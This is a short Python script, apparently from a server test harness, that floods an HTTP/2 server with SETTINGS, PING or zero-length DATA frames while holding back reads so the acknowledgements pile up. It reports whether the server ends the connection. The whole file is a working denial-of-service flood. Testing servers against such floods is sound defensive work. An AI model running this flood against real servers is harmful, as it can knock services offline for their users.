#!/usr/bin/python3
"""Control-frame floods: SETTINGS (settings), PING (ping) or zero-length DATA without END_STREAM on an open request
(empty_data), sent as fast as the socket takes them by a client that reads nothing until the end (a small receive
buffer, so the server's ACKs pile up), until the server ends the connection or the budget runs out. A connection
the server stops reading counts as ended only when the server closes it (send_timeout)."""
import time

from h2wire import Conn, DataFrame, PingFrame, SettingsFrame, common_args

p = common_args(__doc__)
p.add_argument("--kind", choices=["settings", "ping", "empty_data"], required=True)
p.add_argument("--path", default="/upload.cgi", help="the empty_data flood's POST target")
p.add_argument("--count", type=int, default=2000000, help="frames at most")
p.add_argument("--batch", type=int, default=1000)
p.add_argument("--reading", action="store_true", help="read what the server sends after every batch (its ACKs never "
               "pile up, so only the server's own counting can end the flood)")
a = p.parse_args()
c = Conn(a, rcvbuf=0 if a.reading else 4096)
c.wait(lambda: c.server_settings, 2)
if a.kind == "settings":
    f = SettingsFrame(0)
    f.settings = {SettingsFrame.HEADER_TABLE_SIZE: 4096}
    unit = f.serialize()
elif a.kind == "ping":
    unit = PingFrame(0, opaque_data=b"flooding").serialize()
else:
    sid = c.get(a.path, "POST", end_stream=False)
    unit = DataFrame(sid, data=b"").serialize()
batch = unit * a.batch
sent = 0
deadline = time.monotonic() + min(a.seconds, 10)
while sent < a.count and not c.ended() and time.monotonic() < deadline:
    if len(c.outbuf) > 1 << 20:  # the server stopped reading: queue no more until it does
        if not c.send_raw(b"", block=False):
            break
        time.sleep(0.01)
        c.peer_gone()
        continue
    if not c.send_raw(batch, block=False):
        break
    sent += a.batch
    if a.reading:
        c.pump(0)
c.wait(c.ended, 3)
c.report(kind=a.kind, frames_sent=sent, bytes_queued_unsent=len(c.outbuf))
